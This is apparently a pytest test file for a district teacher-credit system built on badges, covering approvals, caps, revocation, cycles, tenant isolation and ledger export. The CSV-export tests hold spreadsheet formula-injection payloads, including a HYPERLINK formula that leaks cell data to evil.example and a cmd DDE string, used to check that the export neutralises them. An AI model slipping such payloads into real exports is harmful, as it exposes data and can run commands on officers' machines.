"""District credit: approvals, caps, duplicates however presented, external badges,
revocation, cycles, isolation between districts, the ledger and its export."""

from __future__ import annotations

import csv
import io
from dataclasses import dataclass
from datetime import timedelta
from decimal import Decimal
from typing import Any

import pytest
from babel.dates import format_date
from sqlalchemy import func, select, text, update
from sqlalchemy.exc import DBAPIError

from app.config import Settings
from app.credit import (
    access,
    approvals,
    cycles,
    domains,
    ledger,
    memberships,
    policies,
    reports,
    requests,
)
from app.db import db, dispose_engines, utcnow
from app.errors import Conflict, Forbidden, InvalidInput
from app.issuance import documents
from app.issuance import service as issuance
from app.models.accounts import User
from app.models.assertions import Assertion
from app.models.credit import (
    CreditCategory,
    CreditPolicy,
    CreditRequest,
    LedgerEntry,
    RenewalCycle,
)
from app.models.orgs import District, Role
from app.pagination import PageArgs
from badges import keys as badge_keys
from tests.app.issuance.helpers import passed
from tests.app.people import grant, make_district, make_user, sign_in
from tests.app.reviews.world import World, build
from tests.app.submissions.helpers import auth_for
from tests.badges.conftest import DocumentServer
from tests.badges.conftest import World as OtherIssuer

EMAIL = "jordan@lake.test"


@pytest.fixture
def settings(settings: Settings) -> Settings:
    return settings.with_changes(badges_allow_private_hosts=True)  # other issuers on loopback


@dataclass
class Scene:
    world: World
    district: District
    officer: User
    teacher: User
    pedagogy: CreditCategory
    equity: CreditCategory


def _scene(auto: bool = True, cap: Any = None) -> Scene:
    world = build()
    district = world.district
    officer = make_user("officer@lake.test")
    grant(officer, Role.CREDIT_OFFICER, district)
    pedagogy = policies.set_category(officer, district, "Pedagogy", 20, cap)
    equity = policies.set_category(officer, district, "Equity", 10)
    policies.create_policy(
        officer,
        district,
        hours=8,
        category_id=pedagogy.id,
        credential_id=world.credential_id,
        auto_approve=auto,
    )
    item = passed(world, EMAIL)
    teacher = db.session.get(User, item.user_id)
    memberships.add_member(teacher, district, "invitation")
    db.session.commit()
    return Scene(world, district, officer, teacher, pedagogy, equity)


def _badge(scene: Scene) -> Assertion:
    return issuance.my_badges(scene.teacher)[0]


def test_auto_approved_policy_credits_at_once_and_the_ledger_says_why(
    app: Any, client: Any, mailbox: Any
) -> None:
    scene = _scene(auto=True)
    badge = _badge(scene)
    made = client.post(
        "/api/v1/credit-requests",
        json={"district_id": scene.district.id, "assertion_id": documents.assertion_url(badge)},
        headers=auth_for(client, EMAIL),
    )
    assert made.status_code == 201, made.get_json()
    assert made.get_json()["status"] == "approved"
    assert made.get_json()["hours"] == "8.00"
    line = db.session.scalars(select(LedgerEntry)).one()
    assert (line.kind, line.hours, line.category_id) == (
        "grant",
        Decimal("8.00"),
        scene.pedagogy.id,
    )
    assert line.assertion_url == documents.assertion_url(badge)
    assert line.verification_result == "valid"
    assert line.actor_id is None
    assert line.reason == "Approved by policy."
    progress = reports.progress(scene.teacher, scene.district)
    assert progress.earned == Decimal("8.00")
    assert {c.name: c.earned for c in progress.categories}["Pedagogy"] == Decimal("8.00")
    assert any("Credit approved" in str(m["Subject"]) for m in mailbox.to(EMAIL))
    sign_in(client, scene.teacher)
    page = client.get("/credit").get_data(as_text=True)
    assert "8 of 150 hours" in page
    assert "<svg" in page


def test_manual_approval_adjustments_need_a_reason_and_denials_too(
    app: Any, client: Any, mailbox: Any
) -> None:
    scene = _scene(auto=False)
    request = requests.request_credit(
        scene.teacher, scene.district.id, assertion_uid=_badge(scene).uid
    )
    db.session.commit()
    assert request.status == "pending"
    assert db.session.scalars(select(LedgerEntry)).all() == []
    assert mailbox.to("officer@lake.test")  # the officer hears of it
    with pytest.raises(InvalidInput, match="say why"):
        approvals.approve(scene.officer, request, hours=5)
    db.session.rollback()
    request = db.session.get(CreditRequest, request.id)
    approvals.approve(scene.officer, request, hours=5, reason="Two of eight sessions were online.")
    db.session.commit()
    line = db.session.scalars(select(LedgerEntry)).one()
    assert line.hours == Decimal("5.00")
    assert line.actor_id == scene.officer.id
    assert "online" in line.reason
    with pytest.raises(Conflict, match="already approved"):
        approvals.deny(scene.officer, request, "no")


def test_deny_with_a_reason_tells_the_teacher(app: Any, client: Any, mailbox: Any) -> None:
    scene = _scene(auto=False)
    request = requests.request_credit(
        scene.teacher, scene.district.id, assertion_uid=_badge(scene).uid
    )
    db.session.commit()
    sign_in(client, scene.officer)
    page = f"/districts/{scene.district.id}/credit"
    assert request.badge_name in client.get(page).get_data(as_text=True)
    client.submit(f"{page}/requests/{request.id}", {"action": "deny", "reason": ""}, page=page)
    db.session.expire_all()
    assert db.session.get(CreditRequest, request.id).status == "pending"  # a reason is needed
    client.submit(
        f"{page}/requests/{request.id}",
        {"action": "deny", "reason": "Not a district-approved provider."},
        page=page,
    )
    db.session.expire_all()
    assert db.session.get(CreditRequest, request.id).status == "denied"
    assert any("Credit denied" in str(m["Subject"]) for m in mailbox.to(EMAIL))


def test_caps_limit_hours_per_category_per_cycle(app: Any) -> None:
    scene = _scene(auto=True, cap=10)
    first = requests.request_credit(
        scene.teacher, scene.district.id, assertion_uid=_badge(scene).uid
    )
    db.session.commit()
    assert first.hours == Decimal("8.00")
    second_badge = passed(scene.world, EMAIL)  # a second attempt at... a second credential pass
    second = requests.request_credit(
        scene.teacher, scene.district.id, assertion_uid=second_badge.uid
    )
    db.session.commit()
    assert second.status == "approved"
    assert second.hours == Decimal("2.00")
    assert "Capped at 2.00 of 8.00 hours" in second.decision_reason
    assert reports.progress(scene.teacher, scene.district).earned == Decimal("10.00")


def test_the_same_badge_is_credited_once_however_it_is_presented(
    app: Any, client: Any, tmp_path: Any
) -> None:
    scene = _scene(auto=True)
    badge = _badge(scene)
    requests.request_credit(scene.teacher, scene.district.id, assertion_uid=badge.uid)
    db.session.commit()
    png = issuance.baked(badge, "png")
    db.session.commit()
    auth = auth_for(client, EMAIL)
    import base64

    for body in (
        {"url": documents.assertion_url(badge)},
        {"jws": badge.jws},
        {"image": base64.b64encode(png).decode()},
        {"assertion_id": badge.uid},
    ):
        again = client.post(
            "/api/v1/credit-requests", json={"district_id": scene.district.id, **body}, headers=auth
        )
        assert again.status_code == 409, (body.keys(), again.get_json())
        assert "credited once" in again.get_json()["error"]["message"]
    assert len(db.session.scalars(select(LedgerEntry)).all()) == 1


def _other_issuer(server: DocumentServer, recipient: str) -> OtherIssuer:
    world = OtherIssuer(server, badge_keys.generate_private_key())
    world.assertion = _to(world.assertion, recipient)  # type: ignore[method-assign]
    return world


def _to(original: Any, recipient: str) -> Any:
    from badges.recipient import make_recipient

    def assertion(number: int = 1, **changes: Any) -> Any:
        return original(number, recipient=make_recipient(recipient), **changes)

    return assertion


@pytest.fixture
def other_server() -> Any:
    server = DocumentServer()
    server.thread.start()
    yield server
    server.httpd.shutdown()
    server.httpd.server_close()


def test_another_issuers_badge_for_someone_else_is_refused_before_an_officer_sees_it(
    app: Any, client: Any, other_server: DocumentServer
) -> None:
    scene = _scene(auto=False)
    elsewhere = _other_issuer(other_server, "somebody.else@lake.test")
    url = elsewhere.hosted(7)
    refused = client.post(
        "/api/v1/credit-requests",
        json={"district_id": scene.district.id, "url": url},
        headers=auth_for(client, EMAIL),
    )
    assert refused.status_code == 422
    assert f"not issued to {EMAIL}" in refused.get_json()["error"]["message"]
    assert db.session.scalars(select(CreditRequest)).all() == []


def test_another_issuers_badge_is_credited_by_its_badge_class_and_reversed_when_revoked(
    app: Any, client: Any, runner: Any, other_server: DocumentServer
) -> None:
    scene = _scene(auto=False)
    elsewhere = _other_issuer(other_server, EMAIL)
    policies.create_policy(
        scene.officer,
        scene.district,
        hours=1.5,
        unit="ceu",
        category_id=scene.equity.id,
        badge_class_url=elsewhere.badge_id,
        auto_approve=True,
    )
    db.session.commit()
    token = elsewhere.signed(3)
    made = client.post(
        "/api/v1/credit-requests",
        json={"district_id": scene.district.id, "jws": token},
        headers=auth_for(client, EMAIL),
    )
    assert made.status_code == 201, made.get_json()
    assert made.get_json()["status"] == "approved"
    assert made.get_json()["hours"] == "15.00"  # 1.5 CEU
    assert made.get_json()["category"] == "Equity"
    clean = runner.invoke(args=["credit", "recheck"])
    assert "0 credit(s) reversed" in clean.output
    elsewhere.revocations.append((f"{other_server.base}/assertions/3", "Issued in error"))
    elsewhere.publish()
    result = runner.invoke(args=["credit", "recheck"])
    assert "1 credit(s) reversed" in result.output, result.output
    lines = db.session.scalars(select(LedgerEntry).order_by(LedgerEntry.id)).all()
    assert [(line.kind, line.hours) for line in lines] == [
        ("grant", Decimal("15.00")),
        ("reverse", Decimal("-15.00")),
    ]


def test_revoking_our_badge_reverses_its_credit_and_tells_both(
    app: Any, client: Any, mailbox: Any
) -> None:
    scene = _scene(auto=True)
    badge = _badge(scene)
    request = requests.request_credit(scene.teacher, scene.district.id, assertion_uid=badge.uid)
    db.session.commit()
    issuance.revoke(scene.world.admin, badge, "Evidence was not the teacher's own.")
    db.session.commit()
    db.session.expire_all()
    assert db.session.get(CreditRequest, request.id).status == "reversed"
    lines = db.session.scalars(select(LedgerEntry).order_by(LedgerEntry.id)).all()
    assert [(line.kind, line.hours) for line in lines] == [
        ("grant", Decimal("8.00")),
        ("reverse", Decimal("-8.00")),
    ]
    assert "not the teacher's own" in lines[1].reason
    assert lines[1].verification_result == "revoked"
    assert reports.progress(scene.teacher, scene.district).earned == Decimal("0.00")
    for address in (EMAIL, "officer@lake.test"):
        assert any("Credit reversed" in str(m["Subject"]) for m in mailbox.to(address))


def test_expired_badges_keep_their_credit_and_the_transcript_shows_both_dates(
    app: Any, client: Any
) -> None:
    scene = _scene(auto=True)
    badge = _badge(scene)
    requests.request_credit(scene.teacher, scene.district.id, assertion_uid=badge.uid)
    db.session.commit()
    sign_in(client, scene.teacher)
    page = client.get(f"/credit/{scene.district.id}/transcript").get_data(as_text=True)
    assert format_date(badge.issued_on, locale="en") in page  # "Nov 30, 2026"
    assert format_date(badge.expires, locale="en") in page
    assert documents.assertion_url(badge) in page
    assert ledger.recheck_external() == 0  # our badges are not re-checked for expiry
    assert reports.progress(scene.teacher, scene.district).earned == Decimal("8.00")


def test_cycles_roll_over_without_losing_history(app: Any, client: Any, runner: Any) -> None:
    scene = _scene(auto=True)
    requests.request_credit(scene.teacher, scene.district.id, assertion_uid=_badge(scene).uid)
    db.session.commit()
    cycle = cycles.current_cycle(scene.teacher, scene.district)
    cycle.ends_on = utcnow().date() - timedelta(days=1)
    db.session.commit()
    result = runner.invoke(args=["credit", "roll-cycles"])
    assert "1 cycle(s) closed" in result.output
    db.session.expire_all()
    history = db.session.scalars(select(RenewalCycle).order_by(RenewalCycle.id)).all()
    assert len(history) == 2
    assert history[0].closed_at is not None
    assert history[1].closed_at is None
    assert history[1].starts_on == history[0].ends_on
    assert reports.progress(scene.teacher, scene.district).earned == Decimal(0)
    assert ledger.transcript(scene.teacher, scene.district, PageArgs()).total == 1  # history kept


def test_officers_of_one_district_cannot_see_another(app: Any, client: Any) -> None:
    scene = _scene(auto=True)
    requests.request_credit(scene.teacher, scene.district.id, assertion_uid=_badge(scene).uid)
    other = make_district("riverton", ("Elm",))
    outsider = make_user("officer@riverton.test")
    grant(outsider, Role.CREDIT_OFFICER, other)
    db.session.commit()
    sign_in(client, outsider)
    assert client.get(f"/districts/{scene.district.id}/credit").status_code == 404
    assert client.get(f"/districts/{scene.district.id}/credit/ledger.csv").status_code == 404
    # A teacher's transcript of a district one is not a member of: 404, like every other
    # cross-tenant page (it was a 422 that confirmed the district exists).
    assert client.get(f"/credit/{scene.district.id}/transcript").status_code == 404
    assert client.get("/credit/999999/transcript").status_code == 404
    assert client.get(f"/districts/{other.id}/credit").status_code == 200
    token = auth_for(client, "officer@riverton.test")
    assert (
        client.get(f"/api/v1/districts/{scene.district.id}/ledger", headers=token).status_code
        == 404
    )
    listed = client.get("/api/v1/districts", headers=token).get_json()["districts"]
    assert [d["name"] for d in listed] == [other.name]
    # A teacher's token cannot hold the ledger scope: refused before any district is looked
    # up, the same answer for a district that exists and one that does not.
    teacher_token = auth_for(client, EMAIL)
    for district_id in (scene.district.id, 999999):
        refused = client.get(f"/api/v1/districts/{district_id}/ledger", headers=teacher_token)
        assert refused.status_code == 403
        assert refused.get_json()["error"]["code"] == "insufficient_scope"


def test_csv_export_and_hr_api_match_the_ledger(app: Any, client: Any) -> None:
    scene = _scene(auto=True)
    for _ in range(3):
        item = passed(scene.world, EMAIL)
        requests.request_credit(scene.teacher, scene.district.id, assertion_uid=item.uid)
        db.session.commit()
    issuance.revoke(scene.world.admin, item, "Duplicate award.")
    db.session.commit()
    lines = db.session.scalars(select(LedgerEntry).order_by(LedgerEntry.id)).all()
    assert len(lines) == 4  # three grants and the reversal of the revoked one
    sign_in(client, scene.officer)
    response = client.get(f"/districts/{scene.district.id}/credit/ledger.csv")
    assert response.mimetype == "text/csv"
    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))
    assert [int(r["entry_id"]) for r in rows] == [line.id for line in lines]
    assert [Decimal(r["hours"]) for r in rows] == [line.hours for line in lines]
    assert [r["assertion_url"] for r in rows] == [line.assertion_url for line in lines]
    assert all(r["assertion_url"].startswith("http://localhost/ob/assertions/") for r in rows)
    assert {r["kind"] for r in rows} == {"grant", "reverse"}

    token = auth_for(client, "officer@lake.test")
    first = client.get(
        f"/api/v1/districts/{scene.district.id}/ledger?limit=3", headers=token
    ).get_json()
    assert [e["entry_id"] for e in first["entries"]] == [line.id for line in lines[:3]]
    rest = client.get(first["next"].removeprefix("http://localhost"), headers=token).get_json()
    assert [e["entry_id"] for e in rest["entries"]] == [line.id for line in lines[3:]]
    assert rest["next"] is None
    later = client.get(
        f"/api/v1/districts/{scene.district.id}/ledger?since=2999-01-01T00:00:00Z", headers=token
    ).get_json()
    assert later["entries"] == []
    bad = client.get(f"/api/v1/districts/{scene.district.id}/ledger?since=yesterday", headers=token)
    assert bad.status_code == 422


def test_the_ledger_is_append_only_in_the_database(app: Any) -> None:
    scene = _scene(auto=True)
    requests.request_credit(scene.teacher, scene.district.id, assertion_uid=_badge(scene).uid)
    db.session.commit()
    for statement in ("UPDATE ledger_entries SET hours = 100", "DELETE FROM ledger_entries"):
        with pytest.raises(DBAPIError, match="append-only"):
            db.session.execute(text(statement))
        db.session.rollback()
    assert db.session.scalars(select(LedgerEntry.hours)).all() == [Decimal("8.00")]


def test_teachers_join_by_claimed_domain_or_invitation(app: Any, client: Any, mailbox: Any) -> None:
    _scene(auto=True)
    admin = make_user("root@platform.test", admin=True)
    other = make_district("hilltop", ("Oak",))
    officer = make_user("officer@hilltop.test")
    grant(officer, Role.CREDIT_OFFICER, other)
    domains.claim_domain(admin, other, "hilltop.k12.test")
    newcomer = make_user("sam@hilltop.k12.test")
    stranger = make_user("kim@elsewhere.test")
    db.session.commit()
    assert [d.id for d in domains.domain_districts(newcomer)] == [other.id]
    with pytest.raises(Forbidden, match="not at a domain"):
        domains.join_by_domain(stranger, other.id)
    sign_in(client, newcomer)
    client.submit(f"/credit/{other.id}/join", page="/credit")
    assert access.membership(newcomer, other.id) is not None
    memberships.invite_member(officer, other, "kim@elsewhere.test")
    db.session.commit()
    body = mailbox.body(mailbox.to("kim@elsewhere.test")[0])
    link = next(word for word in body.split() if "/credit/join/" in word)
    sign_in(client, stranger)
    assert client.get(link.removeprefix("http://localhost")).status_code == 302
    assert access.membership(stranger, other.id) is not None
    with pytest.raises(Forbidden, match="Only platform admins"):
        domains.claim_domain(officer, other, "grab.test")


def test_the_csv_export_never_hands_a_spreadsheet_a_formula(app: Any, client: Any) -> None:
    scene = _scene(auto=True)
    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
    db.session.execute(update(User).where(User.id == scene.teacher.id).values(name=formula))
    db.session.commit()
    for _ in range(2):
        item = passed(scene.world, EMAIL)
        requests.request_credit(scene.teacher, scene.district.id, assertion_uid=item.uid)
        db.session.commit()
    issuance.revoke(scene.world.admin, item, "@SUM(1+1)")
    db.session.commit()
    sign_in(client, scene.officer)
    response = client.get(f"/districts/{scene.district.id}/credit/ledger.csv")
    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))
    assert {r["teacher"] for r in rows} == {"'" + formula}
    assert not any(
        value.startswith(("=", "+", "@", "\t", "\r"))
        for row in rows
        for value in row.values()
        if value
    )
    # Numbers stay numbers: the reversal's negative hours are not quoted.
    assert sorted(Decimal(r["hours"]) for r in rows)[0] < 0


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1 555", "'+1 555"),
        ("-cmd|' /C calc'!A0", "'-cmd|' /C calc'!A0"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("-1.5", "-1.5"),
        ("+2", "+2"),
        ("Ms Ada", "Ms Ada"),
        (3, 3),
    ],
)
def test_safe_cell_neutralises_formulas_and_keeps_numbers(value: Any, written: Any) -> None:
    from app.exports import safe_cell

    assert safe_cell(value) == written


def test_one_active_policy_per_badge_and_district_and_never_zero_hours(app: Any) -> None:
    scene = _scene(auto=False)
    cid = scene.world.credential_id
    category = scene.pedagogy.id
    with pytest.raises(Conflict):  # the scene already maps this credential
        policies.create_policy(
            scene.officer, scene.district, hours=5, category_id=category, credential_id=cid
        )
    url = "https://other.example.org/badges/7"
    policies.create_policy(
        scene.officer, scene.district, hours=2, category_id=category, badge_class_url=url
    )
    db.session.commit()
    with pytest.raises(Conflict):
        policies.create_policy(
            scene.officer, scene.district, hours=2, category_id=category, badge_class_url=url
        )
    for bad in (0, "0.00", "NaN", "Infinity", "-1", "1e400"):
        with pytest.raises(InvalidInput):
            policies.create_policy(
                scene.officer,
                scene.district,
                hours=bad,
                category_id=category,
                badge_class_url="https://other.example.org/badges/8",
            )


def _create_policy(database_url: str, instance: str, barrier: Any, answers: Any, ids: Any) -> None:
    from app.models.accounts import User
    from app.models.orgs import District
    from tests.processes import child_app

    app = child_app(database_url, instance)
    with app.app_context():
        officer, district = db.session.get(User, ids[0]), db.session.get(District, ids[1])
        barrier.wait(timeout=60)
        try:
            policies.create_policy(
                officer,
                district,
                hours=3,
                category_id=ids[2],
                badge_class_url="https://other.example.org/badges/race",
            )
            db.session.commit()
            answers.put("created")
        except Conflict:
            db.session.rollback()
            answers.put("conflict")
        db.session.remove()
        dispose_engines()


@pytest.mark.postgres
def test_three_officers_saving_one_policy_at_once_make_one(
    app: Any, database_url: str, tmp_path: Any
) -> None:
    import multiprocessing

    scene = _scene(auto=False)
    ids = (scene.officer.id, scene.district.id, scene.pedagogy.id)
    context = multiprocessing.get_context("spawn")
    barrier, answers = context.Barrier(3), context.Queue()
    racers = [
        context.Process(
            target=_create_policy, args=(database_url, str(tmp_path), barrier, answers, ids)
        )
        for _ in range(3)
    ]
    for racer in racers:
        racer.start()
    results = sorted(answers.get(timeout=120) for _ in racers)
    for racer in racers:
        racer.join(timeout=60)
    assert results == ["conflict", "conflict", "created"]
    db.session.expire_all()
    active = db.session.scalar(
        select(func.count(CreditPolicy.id)).where(
            CreditPolicy.badge_class_url == "https://other.example.org/badges/race",
            CreditPolicy.active.is_(True),
        )
    )
    assert active == 1


def test_an_officer_on_the_teachers_credit_page_is_pointed_to_the_officer_page(
    app: Any, client: Any
) -> None:
    scene = _scene(auto=True)
    sign_in(client, scene.officer)
    page = client.get("/credit").get_data(as_text=True)
    assert "You are a credit officer of" in page
    assert "You are not a member of a district yet" not in page
    assert f"/districts/{scene.district.id}/credit" in page
